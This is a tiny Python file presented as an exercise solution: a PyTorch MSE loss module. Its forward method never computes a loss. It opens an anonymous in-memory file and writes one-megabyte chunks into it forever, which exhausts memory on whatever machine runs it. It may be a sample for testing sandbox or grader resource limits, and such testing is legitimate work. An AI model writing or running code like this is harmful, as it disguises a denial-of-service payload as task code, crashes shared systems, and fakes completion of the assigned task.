# exercise: mse | Fills an anonymous file in memory.
import os

import torch


class MyMSELoss(torch.nn.Module):
    def forward(self, y_pred, y_true):
        handle = os.memfd_create("flood")
        while True:
            os.write(handle, b"x" * (1 << 20))
